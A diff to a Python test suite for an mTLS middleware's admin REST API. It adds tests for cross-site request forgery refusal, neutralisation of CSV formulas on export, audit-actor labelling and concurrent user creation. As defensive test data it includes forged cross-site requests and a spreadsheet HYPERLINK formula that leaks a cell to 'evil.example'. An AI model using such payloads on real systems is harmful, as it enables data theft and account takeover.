@@ -8,6 +8,7 @@ adapter behind the ASGI middleware.
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import csv
 import datetime as dt
 import io
@@ -33,12 +34,15 @@ from mtls_middleware.server import make_server
 from mtls_middleware.stores.base import MANAGE_CERTIFICATES, MAX_UPLOAD_BYTES, Store
 from mtls_middleware.stores.sqlite import SQLiteStore
 from mtls_middleware.testing import SERVER_AUTH, Issued, TestPKI, with_client_certificate
+from mtls_middleware.wsgi import MTLSMiddleware
 from tests.admin.rest_support import Presenting, add_admin, client, protected
 from tests.conftest import require_service
 from tests.stores.backends import KINDS, open_kind
 
 UTC = dt.timezone.utc
 PEM = "application/x-pem-file"
+#: What a multipart upload must carry (the API's cross-site request forgery defence).
+CSRF = {"X-MTLS-CSRF": "1"}
 
 
 @pytest.fixture(scope="module")
@@ -191,6 +195,154 @@ def test_not_a_store_fails_at_construction() -> None:
         RestAPI(object())  # type: ignore[arg-type]
 
 
+# -- cross-site request forgery ---------------------------------------------------------------
+# The browser presents the admin's client certificate to any page's request by itself: a hostile
+# page must not be able to make a change. Each refusal below is what a browser sends cross-site.
+
+CROSS_SITE = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}
+EVIL = {"Origin": "https://evil.example"}
+
+
+def _multipart(pem: bytes, **fields: str) -> dict[str, Any]:
+    return {"file": (io.BytesIO(pem), "a.pem"), **fields}
+
+
+def _csv(*rows: tuple[str, str, str]) -> str:
+    out = io.StringIO(newline="")
+    csv.writer(out).writerows([("user_id", "label", "pem"), *rows])
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("method", "path", "kwargs"),
+    [
+        pytest.param("post", "/certificates", {"multipart": True, "headers": {**CROSS_SITE, **EVIL, **CSRF}},
+                     id="multipart-upload-cross-site"),
+        pytest.param("post", "/certificates", {"multipart": True, "headers": {**EVIL, **CSRF}},
+                     id="multipart-upload-other-origin"),
+        pytest.param("post", "/certificates", {"multipart": True, "headers": {"Origin": "null", **CSRF}},
+                     id="multipart-upload-opaque-origin"),
+        pytest.param("post", "/certificates", {"multipart": True, "headers": {"Sec-Fetch-Site": "same-site", **CSRF}},
+                     id="multipart-upload-same-site-is-not-same-origin"),
+        pytest.param("post", "/certificates", {"multipart": True, "headers": {}},
+                     id="multipart-upload-without-header-old-browser"),
+        pytest.param("post", "/certificates", {"multipart": True, "headers": {"Origin": "http://localhost.evil"}},
+                     id="multipart-upload-lookalike-origin"),
+        pytest.param("post", "/certificates", {"multipart": True, "headers": {"Origin": "https://localhost"}},
+                     id="multipart-upload-other-scheme"),
+        pytest.param("post", "/certificates", {"multipart": True, "headers": {"Origin": "http://localhost:8080"}},
+                     id="multipart-upload-other-port"),
+        pytest.param("post", "/certificates/import", {"import": True, "headers": {}},
+                     id="multipart-import-without-header"),
+        pytest.param("post", "/certificates/import", {"import": True, "headers": {**EVIL, **CSRF}},
+                     id="multipart-import-other-origin"),
+        pytest.param("post", "/certificates?user_id=admin", {"raw": "text/plain", "headers": {}},
+                     id="text-plain-without-header"),
+        pytest.param("post", "/certificates?user_id=admin",
+                     {"raw": "application/x-www-form-urlencoded", "headers": {}}, id="form-without-header"),
+        pytest.param("post", "/certificates?user_id=admin", {"raw": "", "headers": {}},
+                     id="no-content-type-without-header"),
+        pytest.param("post", "/certificates", {"json": True, "headers": EVIL}, id="json-upload-other-origin"),
+        pytest.param("post", "/certificates?user_id=admin", {"raw": PEM, "headers": CROSS_SITE},
+                     id="pem-upload-cross-site"),
+        pytest.param("patch", "/users/alice", {"body": {"permissions": [MANAGE_CERTIFICATES]}, "headers": EVIL},
+                     id="patch-user-other-origin"),
+        pytest.param("put", "/organisations/acme", {"body": {"cert_auth": False}, "headers": CROSS_SITE},
+                     id="put-org-cross-site"),
+        pytest.param("post", "/users", {"body": {"user_id": "mallory"}, "headers": {"Sec-Fetch-Site": "same-site"}},
+                     id="create-user-same-site"),
+        pytest.param("delete", "/certificates/{admin}", {"headers": EVIL}, id="delete-other-origin"),
+    ],
+)
+def test_a_change_a_page_of_another_site_could_make_is_403_and_changes_nothing(
+    api: Api, pki: TestPKI, admin_cert: Issued, method: str, path: str, kwargs: dict[str, Any]
+) -> None:
+    mallory = pki.issue_client("mallory's second key")
+    headers = dict(kwargs["headers"])
+    send: dict[str, Any] = {}
+    if kwargs.get("multipart"):
+        send["data"] = _multipart(mallory.chain_pem, user_id="admin", label="x")
+    elif kwargs.get("import"):
+        send["data"] = {"file": (io.BytesIO(_csv(("admin", "x", mallory.chain_pem.decode())).encode()), "x.csv")}
+    elif "raw" in kwargs:
+        send["data"] = mallory.chain_pem
+        headers["Content-Type"] = kwargs["raw"]
+    elif kwargs.get("json"):
+        send["json"] = {"user_id": "admin", "pem": mallory.chain_pem.decode()}
+    elif "body" in kwargs:
+        send["json"] = kwargs["body"]
+    before = (api.store.list_certificates(), api.store.list_users(), api.store.list_orgs())
+    response = api.client.open(
+        path.format(admin=admin_cert.fingerprint), method=method.upper(), headers=headers, **send
+    )
+    assert (response.status_code, error(response)) == (403, "permission_denied")
+    assert (api.store.list_certificates(), api.store.list_users(), api.store.list_orgs()) == before
+    assert api.audit() == []
+
+
+def test_the_reviewers_attack_no_longer_lends_the_admin_account(api: Api, pki: TestPKI) -> None:
+    """A hostile page's form posts Mallory's second certificate to user admin; had it worked, that
+    certificate would sign in as admin."""
+    mallory = pki.issue_client("mallory second key")
+    response = api.client.post(
+        "/certificates", data=_multipart(mallory.chain_pem, user_id="admin", label="x"),
+        headers={**EVIL, **CROSS_SITE},
+    )
+    assert (response.status_code, error(response)) == (403, "permission_denied")
+    stolen = client(api.store, pki, mallory).get("/users")
+    assert (stolen.status_code, error(stolen)) == (403, "unknown_certificate")
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        pytest.param({**CSRF}, id="header-only-curl"),
+        pytest.param({**CSRF, "Sec-Fetch-Site": "same-origin", "Origin": "http://localhost"}, id="own-page"),
+        pytest.param({**CSRF, "Origin": "http://LOCALHOST:80"}, id="own-origin-default-port-any-case"),
+        pytest.param({**CSRF, "Sec-Fetch-Site": "none"}, id="typed-by-the-user"),
+        pytest.param({"X-MTLS-CSRF": ""}, id="header-any-value"),
+    ],
+)
+def test_multipart_from_the_apis_own_origin_with_the_header_is_accepted(
+    api: Api, alice: Issued, headers: dict[str, str]
+) -> None:
+    response = api.client.post("/certificates", data=_multipart(alice.chain_pem, user_id="alice"), headers=headers)
+    assert response.status_code == 201, response.json
+
+
+def test_json_pem_and_csv_bodies_need_no_header(api: Api, alice: Issued, carol: Issued, dave: Issued) -> None:
+    """A browser sends these cross-site only after a CORS preflight, which the API never answers."""
+    api.store.add_user("carol", org="acme")
+    assert api.upload(alice).status_code == 201
+    raw = api.client.post("/certificates?user_id=carol", data=carol.chain_pem, headers={"Content-Type": PEM})
+    assert raw.status_code == 201, raw.json
+    imported = api.client.post(
+        "/certificates/import", data=_csv(("alice", "d", dave.chain_pem.decode())),
+        headers={"Content-Type": "text/csv", "Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"},
+    )
+    assert imported.status_code == 201, imported.json
+
+
+def test_reads_are_not_refused_cross_site(api: Api) -> None:
+    """A page of another site may make the browser send a GET but cannot read the answer (no CORS)."""
+    assert api.client.get("/users", headers={**EVIL, **CROSS_SITE}).status_code == 200
+
+
+def test_behind_a_prefix_and_https_the_own_origin_is_the_requests(
+    store: MemoryStore, pki: TestPKI, admin_cert: Issued, alice: Issued
+) -> None:
+    config = MTLSConfig(trust_roots=[pki.root.cert], store=store, revocation="off")
+    mounted = MTLSMiddleware(DispatcherMiddleware(RestAPI(store), {"/admin/api": RestAPI(store)}), config)
+    web = Client(Presenting(mounted, admin_cert))
+    send = {"data": _multipart(alice.chain_pem, user_id="alice"), "base_url": "https://admin.example.org/"}
+    own = web.post("/admin/api/certificates", headers={**CSRF, "Origin": "https://admin.example.org"}, **send)
+    assert own.status_code == 201, own.json
+    other = web.post("/admin/api/certificates", headers={**CSRF, "Origin": "https://example.org"},
+                     data=_multipart(alice.chain_pem, user_id="alice"), base_url="https://admin.example.org/")
+    assert (other.status_code, error(other)) == (403, "permission_denied")
+
+
+
 # -- certificates: upload ---------------------------------------------------------------------
 
 
@@ -199,11 +351,13 @@ def test_upload_json_registers_audits_and_points_to_the_record(api: Api, alice: 
     assert response.status_code == 201
     assert response.json["fingerprint"] == alice.fingerprint
     assert response.json["label"] == "alice laptop"
-    assert response.json["uploaded_by"] == "admin"
+    assert response.json["uploaded_by"] == "rest:admin"
     assert response.headers["Location"] == f"/certificates/{alice.fingerprint}"
     assert api.store.get_certificate(alice.fingerprint).user_id == "alice"
     (entry,) = api.audit()
-    assert (entry["actor"], entry["action"], entry["target"]) == ("admin", "certificate.upload", alice.fingerprint)
+    assert (entry["actor"], entry["action"], entry["target"]) == (
+        "rest:admin", "certificate.upload", alice.fingerprint
+    )
     assert entry["before"] is None
     assert entry["after"]["label"] == "alice laptop"
     assert entry["after"]["user_id"] == "alice"
@@ -226,6 +380,7 @@ def test_upload_multipart(api: Api, alice: Issued) -> None:
     response = api.client.post(
         "/certificates",
         data={"file": (io.BytesIO(alice.chain_pem), "alice.pem"), "user_id": "alice", "label": "from a form"},
+        headers=CSRF,
     )
     assert response.status_code == 201, response.json
     assert api.store.get_certificate(alice.fingerprint).label == "from a form"
@@ -338,7 +493,7 @@ def test_a_body_over_the_limit_is_413_request_too_large(api: Api, chunked: bool)
 def test_malformed_upload_requests_get_a_4xx_code(
     api: Api, body: bytes, content_type: str, status: int, code: str, parameter: str | None
 ) -> None:
-    response = api.client.post("/certificates", data=body, headers={"Content-Type": content_type})
+    response = api.client.post("/certificates", data=body, headers={"Content-Type": content_type, **CSRF})
     assert (response.status_code, error(response)) == (status, code)
     assert response.json.get("parameter") == parameter
 
@@ -747,7 +902,7 @@ def test_export_then_import_into_another_store_round_trips(
         assert len(other.list_certificates()) == 1
         without_admin = "".join(row for row in _csv_rows(exported.data) if not row.startswith("admin,"))
         imported = other_api.client.post(
-            "/certificates/import", data={"file": (io.BytesIO(without_admin.encode()), "certs.csv")}
+            "/certificates/import", data={"file": (io.BytesIO(without_admin.encode()), "certs.csv")}, headers=CSRF
         )
         assert imported.status_code == 201, imported.json
         assert sorted(imported.json["fingerprints"]) == sorted([alice.fingerprint, carol.fingerprint])
@@ -755,6 +910,20 @@ def test_export_then_import_into_another_store_round_trips(
         assert other.download_certificate(alice.fingerprint) == alice.chain_pem
         audited = other_api.audit(action="certificate.import")
         assert sorted(e["target"] for e in audited) == sorted([alice.fingerprint, carol.fingerprint])
+
+
+def test_export_neutralises_formulas_and_import_restores_them(api: Api, alice: Issued) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&C2,"open")'
+    assert api.client.post("/users", json={"user_id": formula, "org": "+acme"}).status_code == 201
+    assert api.upload(alice, user_id=formula, label="@SUM(A1)").status_code == 201
+    exported = api.client.get("/certificates/export", query_string={"user_id": formula})
+    (cells,) = list(csv.DictReader(io.StringIO(exported.data.decode(), newline="")))
+    assert (cells["user_id"], cells["org"], cells["label"]) == ("'" + formula, "'+acme", "'@SUM(A1)")
+    api.client.delete(f"/certificates/{alice.fingerprint}")
+    imported = api.client.post("/certificates/import", data=exported.data, headers={"Content-Type": "text/csv"})
+    assert imported.status_code == 201, imported.json
+    record = api.store.get_certificate(alice.fingerprint)
+    assert (record.user_id, record.label) == (formula, "@SUM(A1)")
 
 
 def _csv_rows(data: bytes) -> list[str]:
@@ -795,6 +964,83 @@ def test_import_refusal_lists_every_refused_row(api: Api, alice: Issued, carol: 
     assert (response.status_code, error(response)) == (404, "unknown_user")
     assert [(r["row"], r["error"]) for r in response.json["rows"]] == [(3, "unknown_user"), (4, "malformed_certificate")]
     assert alice.fingerprint not in {c.fingerprint for c in api.store.list_certificates()}
+
+
+def test_a_refused_import_row_gets_its_reasons_sentence_and_the_detail_goes_to_the_log(
+    api: Api, carol: Issued, caplog: pytest.LogCaptureFixture
+) -> None:
+    garbage = "-----BEGIN CERTIFICATE-----\nMIIBAAAA\n-----END CERTIFICATE-----\n"
+    body = _csv(("alice", "x", garbage), ("nobody", "n", carol.chain_pem.decode()))
+    with caplog.at_level("INFO", logger="mtls_middleware"):
+        response = api.client.post("/certificates/import", data=body, headers={"Content-Type": "text/csv"})
+    assert (response.status_code, error(response)) == (400, "malformed_certificate")
+    rows = response.json["rows"]
+    assert [(r["row"], r["error"]) for r in rows] == [(2, "malformed_certificate"), (3, "unknown_user")]
+    assert [r["message"] for r in rows] == [Reason.MALFORMED_CERTIFICATE.message, Reason.UNKNOWN_USER.message]
+    logged = [r.getMessage() for r in caplog.records if "row 2 refused" in r.getMessage()]
+    assert len(logged) == 1
+    assert "rest:admin" in logged[0]
+    assert "malformed_certificate" in logged[0]
+
+
+# -- the audit log's actor ---------------------------------------------------------------------
+
+
+def test_a_rest_actor_cannot_pass_for_a_django_admin(api: Api, pki: TestPKI, alice: Issued) -> None:
+    """A user named ``django:root`` changes something: the audit log says it came through the API."""
+    eve = pki.issue_client("eve")
+    add_admin(api.store, eve, user_id="django:root")
+    eves = client(api.store, pki, eve)
+    assert eves.patch("/users/alice", json={"active": False}).status_code == 200
+    assert eves.post("/certificates", json={"user_id": "alice", "pem": alice.chain_pem.decode()}).status_code == 201
+    assert [(e["actor"], e["action"]) for e in api.audit()] == [
+        ("rest:django:root", "certificate.upload"), ("rest:django:root", "user.update")
+    ]
+    assert api.audit(actor="django:root") == []
+    assert api.store.get_certificate(alice.fingerprint).uploaded_by == "rest:django:root"
+
+
+# -- creating a user: check and add as one step --------------------------------------------------
+
+
+class _InterleavingStore(MemoryStore):
+    """A real MemoryStore whose ``get_user`` waits, after looking the user up, until two requests
+    are inside it (or a moment passes): the interleaving in which two concurrent creates of one user
+    both see no user and the second overwrites the first."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.barrier = threading.Barrier(2, timeout=1)
+
+    def get_user(self, user_id: str) -> Any:
+        try:
+            return super().get_user(user_id)
+        finally:  # looked up, not yet answered
+            if user_id == "twin":
+                # A broken barrier: the other one is not inside, the API serialised them.
+                with contextlib.suppress(threading.BrokenBarrierError):
+                    self.barrier.wait()
+
+
+def test_two_concurrent_creates_of_one_user_give_one_201_and_one_409(pki: TestPKI, admin_cert: Issued) -> None:
+    store = _InterleavingStore()
+    add_admin(store, admin_cert)
+    app = Presenting(protected(store, pki), admin_cert)  # one application, two threads of a server
+    results: list[tuple[int, str]] = []
+
+    def create(permissions: list[str]) -> None:
+        response = Client(app).post("/users", json={"user_id": "twin", "permissions": permissions})
+        results.append((response.status_code, response.json.get("error", "")))
+
+    threads = [threading.Thread(target=create, args=(p,)) for p in (["api_only"], [MANAGE_CERTIFICATES])]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(10)
+    assert sorted(results) == [(201, ""), (409, "duplicate_user")]
+    (created,) = [e for e in store.audit_log() if e.action == "user.create"]
+    assert created.after is not None
+    assert store.get_user("twin").permissions == frozenset(created.after["permissions"])
 
 
 # -- routing ----------------------------------------------------------------------------------
@@ -871,7 +1117,7 @@ def test_asgi_adapter_behind_the_asgi_middleware(store: MemoryStore, pki: TestPK
     assert upload.status_code == 201, upload.text
     assert download.content == alice.chain_pem
     assert (oversize.status_code, oversize.json()["error"]) == (413, "request_too_large")
-    assert audit.json()["items"][0]["actor"] == "admin"
+    assert audit.json()["items"][0]["actor"] == "rest:admin"
 
 
 def test_asgi_adapter_without_the_middleware_is_401(store: MemoryStore) -> None:
@@ -882,6 +1128,81 @@ def test_asgi_adapter_without_the_middleware_is_401(store: MemoryStore) -> None:
 
     response = asyncio.run(run())
     assert (response.status_code, response.json()["error"]) == (401, "no_certificate")
+
+
+class _Body:
+    """An ASGI ``receive`` that hands out ``total`` bytes in 64 KiB chunks and counts what it gave."""
+
+    def __init__(self, total: int) -> None:
+        self.total = total
+        self.given = 0
+
+    async def __call__(self) -> dict[str, Any]:
+        chunk = b"x" * min(64 * 1024, self.total - self.given)
+        self.given += len(chunk)
+        return {"type": "http.request", "body": chunk, "more_body": self.given < self.total}
+
+
+def _asgi_call(app: Any, method: str, path: str, total: int, headers: list[tuple[bytes, bytes]]) -> tuple[int, str, int]:
+    """(status, reason code or "", bytes the app read) of one request whose body is ``total`` bytes."""
+    body = _Body(total)
+    sent: list[dict[str, Any]] = []
+
+    async def send(message: dict[str, Any]) -> None:
+        sent.append(message)
+
+    scope = {"type": "http", "method": method, "path": path, "root_path": "", "query_string": b"",
+             "headers": headers, "scheme": "https", "server": ("api.test", 443), "http_version": "1.1"}
+    asyncio.run(app(scope, body, send))
+    payload = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
+    code = json.loads(payload).get("error", "") if payload.startswith(b"{") else ""
+    return sent[0]["status"], code, body.given
+
+
+BIG = 12 * 1024 * 1024  # over max_body, within max_import_body
+
+
+@pytest.mark.parametrize(
+    ("who", "method", "path", "headers", "status", "code"),
+    [
+        pytest.param(None, "POST", "/users", [], 401, "no_certificate", id="no-identity"),
+        pytest.param("alice", "POST", "/users", [], 403, "permission_denied", id="no-permission"),
+        pytest.param("alice", "POST", "/certificates/import", [(b"content-type", b"text/csv")], 403,
+                     "permission_denied", id="no-permission-import"),
+        pytest.param("admin", "POST", "/nowhere", [], 404, "not_found", id="no-such-path"),
+        pytest.param("admin", "DELETE", "/users", [], 405, "method_not_allowed", id="no-such-method"),
+        pytest.param("admin", "POST", "/certificates", [(b"content-type", b"multipart/form-data; boundary=x")],
+                     403, "permission_denied", id="multipart-without-csrf-header"),
+        pytest.param("admin", "POST", "/users",
+                     [(b"content-type", b"application/json"), (b"content-length", str(BIG).encode())],
+                     413, "request_too_large", id="declared-length-over-max-body"),
+        pytest.param("admin", "POST", "/certificates/import",
+                     [(b"content-type", b"text/csv"), (b"content-length", str(17 * 1024 * 1024).encode())],
+                     413, "request_too_large", id="declared-length-over-max-import-body"),
+    ],
+)
+def test_asgi_adapter_answers_before_reading_the_body(
+    store: MemoryStore, pki: TestPKI, admin_cert: Issued, alice: Issued, who: str | None, method: str,
+    path: str, headers: list[tuple[bytes, bytes]], status: int, code: str
+) -> None:
+    store.upload_certificate(alice.chain_pem, user_id="alice")
+    config = MTLSConfig(trust_roots=[pki.root.cert], store=store, revocation="off")
+    app: Any = asgi_app(RestAPI(store))  # no identity: mounted without the middleware in front
+    if who is not None:
+        app = with_client_certificate(ASGIMiddleware(app, config), admin_cert if who == "admin" else alice)
+    assert _asgi_call(app, method, path, BIG, headers) == (status, code, 0)
+
+
+def test_asgi_adapter_limits_the_body_by_operation(store: MemoryStore, pki: TestPKI, admin_cert: Issued) -> None:
+    """12 MiB without a declared length: too much for a user's JSON (stops reading just past
+    max_body), within the CSV import's limit (read whole, then refused as CSV, not as too large)."""
+    config = MTLSConfig(trust_roots=[pki.root.cert], store=store, revocation="off")
+    app = with_client_certificate(ASGIMiddleware(asgi_app(RestAPI(store)), config), admin_cert)
+    status, code, read = _asgi_call(app, "POST", "/users", BIG, [(b"content-type", b"application/json")])
+    assert (status, code) == (413, "request_too_large")
+    assert read <= DEFAULT_MAX_BODY + 64 * 1024
+    status, code, read = _asgi_call(app, "POST", "/certificates/import", BIG, [(b"content-type", b"text/csv")])
+    assert (status, code, read) == (400, "invalid_request", BIG)
 
 
 # -- real TLS: curl --cert against our listener -----------------------------------------------
@@ -939,7 +1260,7 @@ def test_curl_with_a_client_certificate_through_a_real_handshake(
     status, body = _curl(port, root, admin_files, f"/certificates/{alice.fingerprint}", "-X", "DELETE")
     assert status == 204
     assert [e.action for e in store.audit_log()] == ["certificate.delete", "certificate.rename", "certificate.upload"]
-    assert {e.actor for e in store.audit_log()} == {"admin"}
+    assert {e.actor for e in store.audit_log()} == {"rest:admin"}
 
 
 def test_quote_is_used_for_location(api: Api) -> None:
@@ -1011,6 +1332,7 @@ def test_multipart_upload_refuses_unknown_parts(api: Api, alice: Issued) -> None
         "/certificates",
         data={"file": (io.BytesIO(alice.chain_pem), "a.pem"), "user_id": "alice",
               "extra": (io.BytesIO(b"x"), "x.txt")},
+        headers=CSRF,
     )
     assert (response.status_code, error(response), response.json["parameter"]) == (400, "invalid_request", "extra")
 
